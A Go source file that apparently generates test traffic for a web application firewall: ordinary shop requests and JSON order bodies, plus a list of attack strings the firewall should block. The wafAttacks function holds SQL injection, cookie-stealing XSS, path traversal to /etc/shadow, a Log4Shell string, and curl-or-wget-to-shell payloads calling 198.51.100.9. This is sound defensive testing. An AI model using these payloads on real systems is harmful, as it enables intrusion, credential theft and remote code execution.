package main

import (
	"encoding/json"
	"fmt"
	"strconv"
	"strings"

	"github.com/gatehouse/gatehouse"
	"github.com/gatehouse/gatehouse/waf"
)

// browserFields are what a browser sends with a call of a page's script.
var browserFields = gatehouse.Header{
	{Name: "Host", Value: "shop.example.com"},
	{Name: "User-Agent", Value: "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"},
	{Name: "Accept", Value: "application/json, text/plain, */*"},
	{Name: "Accept-Language", Value: "en-US,en;q=0.5"},
	{Name: "Accept-Encoding", Value: "gzip, deflate, br"},
	{Name: "Referer", Value: "https://shop.example.com/catalogue"},
	{Name: "Sec-Fetch-Dest", Value: "empty"},
	{Name: "Sec-Fetch-Mode", Value: "cors"},
	{Name: "Sec-Fetch-Site", Value: "same-origin"},
	{Name: "Connection", Value: "keep-alive"},
}

func wafMessage(method, target string, fields ...gatehouse.Field) *waf.Message {
	m := &waf.Message{Client: wafClient, Server: wafServer, Method: method, Target: target, Proto: "HTTP/1.1"}
	m.Header = append(append(m.Header, browserFields...), fields...)
	return m
}

// withBody gives m a body.
func withBody(m *waf.Message, mediaType string, body []byte) *waf.Message {
	m.Header = append(m.Header, gatehouse.Field{Name: "Content-Type", Value: mediaType},
		gatehouse.Field{Name: "Content-Length", Value: strconv.Itoa(len(body))})
	m.Body, m.HasBody = body, true
	return m
}

// wafGets are n GETs with three arguments and a session. They pass at every level.
func wafGets(n int) (list []*waf.Message) {
	sorts, words := []string{"name", "price", "rating", "newest"}, []string{"shoes", "boots", "sandals", "trainers", "slippers"}
	for i := range n {
		list = append(list, wafMessage("GET", fmt.Sprintf("/v1/items?page=%d&sort=%s&q=%s%02d", 1+i, sorts[i%len(sorts)], words[i%len(words)], 36+i%12),
			gatehouse.Field{Name: "Cookie", Value: fmt.Sprintf("session=%016x%016x; theme=dark", mix(uint64(i)), mix(uint64(i)+100))}))
	}
	return list
}

// A wafOrder is the JSON document of the rows. Plain says that its values are
// identifiers and numbers: at paranoia level 4 the Core Rule Set refuses arguments
// with a space, an @ or two signs (920273, 942432), whoever sends them.
type wafOrder struct {
	lines, notes int
	note         string
	plain        bool
}

var (
	wafSmall  = wafOrder{lines: 5, notes: 4, note: "Ring twice at door %d"}               // 870 bytes, 45 leaves
	wafLarge  = wafOrder{lines: 72, notes: 14, note: "Ring twice at door %d"}             // 7.5 KB, 457 leaves
	wafMedium = wafOrder{lines: 5, notes: 7, note: "Please ring twice at door number %d"} // 1 KB, 48 leaves
)

// plainly is the same order with identifiers and numbers only.
func (o wafOrder) plainly() wafOrder {
	o.plain = true
	return o
}

// text is one document; they differ by i.
func (o wafOrder) text(i int) []byte {
	type object = map[string]any
	doc := struct {
		ID       string   `json:"id"`
		Created  string   `json:"created"`
		Currency string   `json:"currency"`
		Channel  string   `json:"channel"`
		Customer object   `json:"customer"`
		Address  object   `json:"address"`
		Lines    []any    `json:"lines"`
		Notes    []string `json:"notes"`
	}{
		Created: fmt.Sprintf("2026-03-%02dT09:30:00Z", 1+i%28), Currency: "EUR", Channel: "web",
		ID:       fmt.Sprintf("%08x-ceea-467f-a830-%012x", uint32(mix(uint64(i))), mix(uint64(i)+1)>>16),
		Customer: object{"id": 48213 + i, "name": "Marie Dupont", "mail": fmt.Sprintf("marie.dupont%02d@example.com", i%100)},
		Address:  object{"street": fmt.Sprintf("Hauptstrasse %02d", 10+i%90), "zip": "10115", "city": "Berlin", "country": "DE"},
	}
	space := " "
	if o.plain {
		doc.ID, doc.Created = fmt.Sprintf("%016x%016x", mix(uint64(i)), mix(uint64(i)+1)), fmt.Sprintf("202603%02d.093000", 1+i%28)
		doc.Customer["name"], doc.Customer["mail"] = "Marie_Dupont", fmt.Sprintf("marie.dupont%02d.example", i%100)
		doc.Address["street"] = fmt.Sprintf("Hauptstrasse.%02d", 10+i%90)
		space = "."
	}
	products := []string{"Running shoes", "Walking shoes", "Leather boots", "Rubber boots", "Woollen socks", "Cotton shirt",
		"Linen trousers", "Denim jacket", "Canvas bag", "Winter gloves", "Sun hat", "Silk scarf"}
	colours := []string{"red", "blue", "green", "black", "white", "yellow"}
	for n := range o.lines {
		// Among 72 lines no title comes twice.
		title := strings.ReplaceAll(products[n%12]+" "+colours[(n+n/12+i)%6], " ", space)
		doc.Lines = append(doc.Lines, struct {
			SKU   string  `json:"sku"`
			Title string  `json:"title"`
			Count int     `json:"count"`
			Price float64 `json:"price"`
			Gift  bool    `json:"gift"`
			Tax   int     `json:"tax"`
		}{fmt.Sprintf("SKU-%05d", 1000+7*n+i), title, 1 + n%3, 19.95 + float64(n), n%4 == 0, 19})
	}
	for n := range o.notes {
		doc.Notes = append(doc.Notes, strings.ReplaceAll(fmt.Sprintf(o.note, n+1), " ", space))
	}
	text, err := json.Marshal(doc)
	if err != nil {
		panic(err) // it holds nothing that has no JSON
	}
	return text
}

// wafPosts are n calls with the document.
func wafPosts(o wafOrder, n int) (list []*waf.Message) {
	for i := range n {
		list = append(list, withBody(wafMessage("POST", "/v1/orders",
			gatehouse.Field{Name: "Cookie", Value: fmt.Sprintf("session=%016x%016x", mix(uint64(i)), mix(uint64(i)+100))}),
			"application/json", o.text(i)))
	}
	return list
}

// wafAttacks are some of the usual, in the query and in JSON.
func wafAttacks() (list []*waf.Message) {
	for _, query := range []string{
		"id=1%27%20OR%20%271%27=%271%27--%20-",
		"id=-1%20UNION%20SELECT%20username,password%20FROM%20users--",
		"id=1;%20DROP%20TABLE%20orders;--",
		"q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
		"q=%3Cimg%20src=x%20onerror=alert(1)%3E",
		"file=../../../../../../etc/passwd",
		"file=..%252f..%252f..%252fetc%252fshadow",
		"host=127.0.0.1;cat%20/etc/passwd",
		"cmd=%24(curl%20http://198.51.100.9/x.sh%7Csh)",
		"page=http://198.51.100.9/shell.php",
	} {
		list = append(list, wafMessage("GET", "/v1/items?page=2&"+query))
	}
	for _, value := range []string{
		"x' UNION ALL SELECT NULL,version(),NULL-- -",
		"1 AND SLEEP(5)",
		`"><svg/onload=fetch('//198.51.100.9/'+document.cookie)>`,
		"${jndi:ldap://198.51.100.9/a}",
		"; wget http://198.51.100.9/m -O /tmp/m; chmod 777 /tmp/m",
		"/proc/self/environ",
	} {
		body, err := json.Marshal(map[string]any{"id": 48213, "currency": "EUR", "note": value,
			"customer": map[string]any{"name": "Marie Dupont", "city": "Berlin"}})
		if err != nil {
			panic(err)
		}
		list = append(list, withBody(wafMessage("POST", "/v1/orders"), "application/json", body))
	}
	return list
}
